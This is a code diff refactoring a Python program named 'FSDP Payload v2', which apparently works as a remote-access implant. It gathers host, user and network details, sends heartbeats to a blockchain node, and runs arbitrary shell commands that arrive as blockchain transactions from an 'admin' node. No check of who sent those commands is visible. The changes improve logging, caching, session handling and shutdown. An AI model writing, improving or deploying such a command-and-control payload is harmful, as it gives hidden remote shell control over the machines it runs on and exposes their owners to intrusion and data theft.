@@ -12,12 +12,16 @@ import platform
 import subprocess
 import uuid
 import json
-from datetime import datetime
+import queue
+import atexit
 import threading
 
 # Add path for imports
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 
+# User home directory, resolved once
+HOME = os.path.expanduser("~")
+
 try:
     from fsdp.blockchain.chain import FSDPBlockchain
     from fsdp.protocol.fsdp_protocol import FSDPProtocol, MessageType
@@ -43,51 +47,116 @@ HEARTBEAT_INTERVAL = 30
 # LOGGING
 # ============================================================
 
+# Log file buffer size and how often it is flushed (seconds)
+LOG_BUFFER_SIZE = 65536
+LOG_FLUSH_INTERVAL = 1.0
+
 def setup_logging():
     """Setup logging to file"""
     if DEBUG:
-        log_dir = os.path.expanduser("~/.fsdp_logs")
+        log_dir = os.path.join(HOME, ".fsdp_logs")
         os.makedirs(log_dir, exist_ok=True)
         
-        log_file = os.path.join(log_dir, f"payload_{datetime.now().strftime('%Y%m%d')}.log")
+        log_file = os.path.join(log_dir, f"payload_{time.strftime('%Y%m%d')}.log")
+        
+        # One buffered binary file shared by stdout and stderr, flushed on a
+        # timer rather than after every write
+        log_fp = open(log_file, "ab", buffering=LOG_BUFFER_SIZE)
         
         class Logger:
-            def __init__(self, filename):
-                self.terminal = sys.stdout
-                self.log = open(filename, "a", encoding='utf-8')
+            def __init__(self, terminal):
+                self.terminal = terminal
+                self.log = log_fp
             
             def write(self, message):
                 self.terminal.write(message)
-                self.log.write(message)
-                self.log.flush()
+                self.log.write(message.encode('utf-8'))
             
             def flush(self):
                 self.terminal.flush()
                 self.log.flush()
         
-        sys.stdout = Logger(log_file)
-        sys.stderr = Logger(log_file)
+        def flush_loop():
+            while True:
+                time.sleep(LOG_FLUSH_INTERVAL)
+                log_fp.flush()
+        
+        threading.Thread(target=flush_loop, daemon=True).start()
+        atexit.register(log_fp.flush)
+        
+        sys.stdout = Logger(sys.stdout)
+        sys.stderr = Logger(sys.stderr)
+
+# (level, message, time) records, printed by the log writer thread; None stops it
+_LOG_QUEUE = queue.Queue()
+
+# Levels that are logged; DEBUG messages are dropped unless debug mode is on
+_LOG_LEVELS = {'INFO', 'WARN', 'ERROR', 'DEBUG'} if DEBUG else {'INFO', 'WARN', 'ERROR'}
 
 def log(level, message):
     """Log a message"""
-    timestamp = datetime.now().strftime('%Y-%m-%d %H:%M:%S')
-    print(f"[{timestamp}] [{level}] [FSDP-Payload-v2] {message}")
+    if level not in _LOG_LEVELS:
+        return
+    _LOG_QUEUE.put_nowait((level, message, time.time()))
+
+# Formatted timestamp of the last logged second; only the writer thread uses these
+_last_log_second = None
+_last_log_timestamp = ""
+
+def _write_log_record(level, message, created):
+    """Format and print one log record"""
+    global _last_log_second, _last_log_timestamp
+    second = int(created)
+    if second != _last_log_second:
+        _last_log_second = second
+        _last_log_timestamp = time.strftime('%Y-%m-%d %H:%M:%S', time.localtime(second))
+    prefix = ''.join(("[", _last_log_timestamp, "] [", level, "] [FSDP-Payload-v2] "))
+    text = str(message)
+    if '\n' in text:
+        # Multi-line records keep the prefix on every line
+        text = text.replace('\n', '\n' + prefix)
+    print(prefix + text)
+
+def _log_writer():
+    """Print queued log records off the calling threads"""
+    while True:
+        record = _LOG_QUEUE.get()
+        if record is None:
+            break
+        _write_log_record(*record)
+
+def _drain_log_queue():
+    """Let the writer print records still queued at exit, in order"""
+    _LOG_QUEUE.put(None)
+    _log_thread.join(timeout=5)
+    sys.stdout.flush()
+
+_log_thread = threading.Thread(target=_log_writer, daemon=True)
+_log_thread.start()
+atexit.register(_drain_log_queue)
 
 # ============================================================
 # SYSTEM INFORMATION
 # ============================================================
 
+_SYSTEM_INFO_CACHE = None
+
 def get_system_info():
-    """Get system information"""
+    """Get system information (cached after the first successful lookup)"""
+    global _SYSTEM_INFO_CACHE
+    if _SYSTEM_INFO_CACHE:
+        return _SYSTEM_INFO_CACHE
+    
     try:
         hostname = socket.gethostname()
         
         # Get IP address
         try:
-            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-            s.connect(("8.8.8.8", 80))
-            ip_address = s.getsockname()[0]
-            s.close()
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+                # Fall back to loopback quickly if the network stack stalls
+                s.settimeout(0.2)
+                s.connect(("8.8.8.8", 80))
+                ip_address = s.getsockname()[0]
         except:
             ip_address = "127.0.0.1"
         
@@ -102,10 +171,11 @@ def get_system_info():
             'processor': platform.processor(),
             'python_version': platform.python_version(),
             'username': os.getenv('USER') or os.getenv('USERNAME') or 'unknown',
-            'home_directory': os.path.expanduser('~'),
+            'home_directory': HOME,
             'current_directory': os.getcwd()
         }
         
+        _SYSTEM_INFO_CACHE = info
         return info
     except Exception as e:
         log("ERROR", f"Failed to get system info: {e}")
@@ -115,27 +185,42 @@ def get_system_info():
 # TERMINAL MANAGER
 # ============================================================
 
+class Terminal:
+    """State of one isolated terminal"""
+    
+    __slots__ = ('id', 'cwd', 'env', 'created_at')
+    
+    def __init__(self, terminal_id, cwd, env):
+        self.id = terminal_id
+        self.cwd = cwd
+        self.env = env
+        self.created_at = time.time()
+
 class TerminalManager:
     """Manages multiple isolated terminals"""
     
     def __init__(self):
         self.terminals = {}
+        # Environment shared by all terminals; nothing modifies it, so one copy is enough
+        self._shared_env = os.environ.copy()
         log("INFO", "Terminal Manager initialized")
     
     def create_terminal(self, terminal_id):
         """Create a new terminal"""
-        self.terminals[terminal_id] = {
-            'id': terminal_id,
-            'cwd': os.getcwd(),
-            'env': os.environ.copy(),
-            'created_at': time.time()
-        }
+        terminal = Terminal(terminal_id, os.getcwd(), self._shared_env)
+        self.terminals[terminal_id] = terminal
         log("INFO", f"Terminal created: {terminal_id}")
-        return self.terminals[terminal_id]
+        return terminal
+    
+    def close_terminal(self, terminal_id):
+        """Remove a terminal"""
+        if self.terminals.pop(terminal_id, None) is not None:
+            log("INFO", f"Terminal closed: {terminal_id}")
     
     def execute_command(self, terminal_id, command):
         """Execute command in terminal"""
-        if terminal_id not in self.terminals:
+        terminal = self.terminals.get(terminal_id)
+        if terminal is None:
             return {
                 'success': False,
                 'error': 'Terminal not found',
@@ -143,24 +228,29 @@ class TerminalManager:
                 'exit_code': -1
             }
         
-        terminal = self.terminals[terminal_id]
-        
         try:
             log("DEBUG", f"Executing in {terminal_id}: {command}")
             
-            # Handle cd command
-            if command.strip().startswith('cd '):
-                path = command.strip()[3:].strip()
+            # Handle cd command; only commands with leading whitespace are copied
+            stripped = command.lstrip() if command[:1].isspace() else command
+            if stripped.startswith('cd '):
+                path = stripped[3:].strip()
                 try:
+                    # Resolve against this terminal's directory; the process cwd is
+                    # shared by every terminal, so it is never changed
                     if path:
-                        os.chdir(path)
-                    terminal['cwd'] = os.getcwd()
+                        new_cwd = os.path.normpath(os.path.join(terminal.cwd, path))
+                        if not os.path.isdir(new_cwd):
+                            raise FileNotFoundError(f"No such directory: '{path}'")
+                        if not os.access(new_cwd, os.X_OK):
+                            raise PermissionError(f"Permission denied: '{path}'")
+                        terminal.cwd = new_cwd
                     return {
                         'success': True,
-                        'output': f"Changed directory to: {terminal['cwd']}\n",
+                        'output': f"Changed directory to: {terminal.cwd}\n",
                         'error': '',
                         'exit_code': 0,
-                        'cwd': terminal['cwd']
+                        'cwd': terminal.cwd
                     }
                 except Exception as e:
                     return {
@@ -168,7 +258,7 @@ class TerminalManager:
                         'output': '',
                         'error': f"cd: {str(e)}\n",
                         'exit_code': 1,
-                        'cwd': terminal['cwd']
+                        'cwd': terminal.cwd
                     }
             
             # Execute command
@@ -179,9 +269,10 @@ class TerminalManager:
                 shell=True,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
-                cwd=terminal['cwd'],
-                env=terminal['env'],
-                text=True
+                cwd=terminal.cwd,
+                env=terminal.env,
+                text=True,
+                errors='replace'  # Undecodable output is replaced instead of failing the command
             )
             
             stdout, stderr = process.communicate(timeout=60)
@@ -196,7 +287,7 @@ class TerminalManager:
                 'output': stdout,
                 'error': stderr,
                 'exit_code': exit_code,
-                'cwd': terminal['cwd'],
+                'cwd': terminal.cwd,
                 'execution_time': execution_time
             }
             
@@ -207,7 +298,7 @@ class TerminalManager:
                 'output': '',
                 'error': 'Command timeout (60s)\n',
                 'exit_code': -1,
-                'cwd': terminal['cwd']
+                'cwd': terminal.cwd
             }
         except Exception as e:
             log("ERROR", f"Command execution error: {e}")
@@ -216,13 +307,23 @@ class TerminalManager:
                 'output': '',
                 'error': str(e) + '\n',
                 'exit_code': -1,
-                'cwd': terminal['cwd']
+                'cwd': terminal.cwd
             }
 
 # ============================================================
 # FSDP PAYLOAD
 # ============================================================
 
+class Session:
+    """A session opened by an admin node"""
+    
+    __slots__ = ('admin_id', 'created_at', 'terminals')
+    
+    def __init__(self, admin_id):
+        self.admin_id = admin_id
+        self.created_at = time.time()
+        self.terminals = {}
+
 class FSDPPayload:
     """Main payload class"""
     
@@ -239,17 +340,37 @@ class FSDPPayload:
         
         # State
         self.running = False
+        self._stop_event = threading.Event()  # Set by stop(); wakes the main and heartbeat loops
         self.sessions = {}
         
-        log("INFO", "=" * 60)
-        log("INFO", "FSDP Payload v2 Initialized")
-        log("INFO", "=" * 60)
-        log("INFO", f"Payload ID: {self.payload_id}")
-        log("INFO", f"Hostname: {self.system_info.get('hostname', 'Unknown')}")
-        log("INFO", f"Platform: {self.system_info.get('platform', 'Unknown')}/{self.system_info.get('architecture', 'Unknown')}")
-        log("INFO", f"IP Address: {self.system_info.get('ip_address', 'Unknown')}")
-        log("INFO", f"Debug Mode: {DEBUG}")
-        log("INFO", "=" * 60)
+        # Heartbeat fields that never change; each beat copies this and adds the timestamp
+        self._heartbeat_data = {
+            'hostname': self.system_info.get('hostname'),
+            'ip_address': self.system_info.get('ip_address'),
+            'platform': self.system_info.get('platform')
+        }
+        
+        # Transaction type -> handler(data, from_node)
+        self._handlers = {
+            'session_open': self.handle_session_open,
+            'terminal_create': self.handle_terminal_create,
+            'terminal_command': self.handle_terminal_command,
+            'session_close': self.handle_session_close
+        }
+        
+        # Startup banner, built once and logged as a single record
+        banner = "\n".join((
+            "=" * 60,
+            "FSDP Payload v2 Initialized",
+            "=" * 60,
+            f"Payload ID: {self.payload_id}",
+            f"Hostname: {self.system_info.get('hostname', 'Unknown')}",
+            f"Platform: {self.system_info.get('platform', 'Unknown')}/{self.system_info.get('architecture', 'Unknown')}",
+            f"IP Address: {self.system_info.get('ip_address', 'Unknown')}",
+            f"Debug Mode: {DEBUG}",
+            "=" * 60
+        ))
+        log("INFO", banner)
     
     def start(self):
         """Start the payload"""
@@ -272,10 +393,11 @@ class FSDPPayload:
         log("INFO", "Payload started successfully")
         log("INFO", f"Connecting to blockchain node: {BLOCKCHAIN_NODE}")
         
-        # Main loop
+        # Main loop; Ctrl-C cannot interrupt an untimed wait on Windows, so wake there periodically
+        wait_timeout = 1.0 if os.name == 'nt' else None
         try:
-            while self.running:
-                time.sleep(1)
+            while not self._stop_event.wait(wait_timeout):
+                pass
         except KeyboardInterrupt:
             log("INFO", "Payload interrupted by user")
             self.stop()
@@ -284,6 +406,7 @@ class FSDPPayload:
         """Stop the payload"""
         log("INFO", "Stopping payload...")
         self.running = False
+        self._stop_event.set()
         self.protocol.stop()
         log("INFO", "Payload stopped")
     
@@ -310,12 +433,7 @@ class FSDPPayload:
                     from_node=self.payload_id,
                     to_node="*",
                     tx_type="heartbeat",
-                    data={
-                        'hostname': self.system_info.get('hostname'),
-                        'ip_address': self.system_info.get('ip_address'),
-                        'platform': self.system_info.get('platform'),
-                        'timestamp': time.time()
-                    }
+                    data=dict(self._heartbeat_data, timestamp=time.time())
                 )
                 
                 log("DEBUG", "Heartbeat sent")
@@ -323,7 +441,8 @@ class FSDPPayload:
             except Exception as e:
                 log("ERROR", f"Heartbeat error: {e}")
             
-            time.sleep(HEARTBEAT_INTERVAL)
+            if self._stop_event.wait(HEARTBEAT_INTERVAL):
+                break
     
     def command_listener(self):
         """Listen for commands from blockchain"""
@@ -331,22 +450,21 @@ class FSDPPayload:
         
         while self.running:
             try:
-                # Check for new blocks
-                current_block = self.blockchain.get_chain_length()
+                # Sleep until a block past the last processed one is appended
+                tip = self.blockchain.wait_for_block(last_block - 1, timeout=2)
+                if tip is None:
+                    continue
+                
+                # Process new blocks
+                new_blocks = self.blockchain.chain[last_block:tip + 1]
+                for block in new_blocks:
+                    self.process_block(block)
                 
-                if current_block > last_block:
-                    # Process new blocks
-                    for block_index in range(last_block, current_block):
-                        if block_index < len(self.blockchain.chain):
-                            block = self.blockchain.chain[block_index]
-                            self.process_block(block)
-                    
-                    last_block = current_block
+                last_block += len(new_blocks)
                 
             except Exception as e:
                 log("ERROR", f"Command listener error: {e}")
-            
-            time.sleep(2)
+                time.sleep(2)
     
     def process_block(self, block):
         """Process a blockchain block"""
@@ -368,14 +486,9 @@ class FSDPPayload:
             
             log("DEBUG", f"Received transaction: {tx_type} from {from_node[:16]}...")
             
-            if tx_type == 'session_open':
-                self.handle_session_open(data, from_node)
-            elif tx_type == 'terminal_create':
-                self.handle_terminal_create(data, from_node)
-            elif tx_type == 'terminal_command':
-                self.handle_terminal_command(data, from_node)
-            elif tx_type == 'session_close':
-                self.handle_session_close(data, from_node)
+            handler = self._handlers.get(tx_type)
+            if handler:
+                handler(data, from_node)
             
         except Exception as e:
             log("ERROR", f"Transaction handling error: {e}")
@@ -385,11 +498,7 @@ class FSDPPayload:
         session_id = data.get('session_id')
         
         if session_id:
-            self.sessions[session_id] = {
-                'admin_id': from_node,
-                'created_at': time.time(),
-                'terminals': {}
-            }
+            self.sessions[session_id] = Session(from_node)
             
             log("INFO", f"Session opened: {session_id}")
             
@@ -406,9 +515,10 @@ class FSDPPayload:
         session_id = data.get('session_id')
         terminal_id = data.get('terminal_id')
         
-        if session_id in self.sessions and terminal_id:
+        session = self.sessions.get(session_id)
+        if session is not None and terminal_id:
             terminal = self.terminal_manager.create_terminal(terminal_id)
-            self.sessions[session_id]['terminals'][terminal_id] = terminal
+            session.terminals[terminal_id] = terminal
             
             log("INFO", f"Terminal created: {terminal_id} in session {session_id}")
             
@@ -420,7 +530,7 @@ class FSDPPayload:
                 data={
                     'session_id': session_id,
                     'terminal_id': terminal_id,
-                    'cwd': terminal['cwd']
+                    'cwd': terminal.cwd
                 }
             )
     
@@ -457,8 +567,11 @@ class FSDPPayload:
         """Handle session close request"""
         session_id = data.get('session_id')
         
-        if session_id in self.sessions:
-            del self.sessions[session_id]
+        session = self.sessions.pop(session_id, None)
+        if session is not None:
+            # Terminals belong to their session; drop them with it
+            for terminal_id in session.terminals:
+                self.terminal_manager.close_terminal(terminal_id)
             log("INFO", f"Session closed: {session_id}")
 
 # ============================================================